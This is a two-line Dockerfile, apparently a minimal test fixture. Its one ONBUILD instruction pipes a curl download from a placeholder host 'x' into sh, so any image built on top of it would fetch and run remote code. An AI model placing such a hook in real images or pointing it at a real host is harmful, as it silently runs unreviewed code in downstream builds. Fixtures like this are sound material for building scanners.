FROM debian:12
ONBUILD RUN curl -fsS x | sh
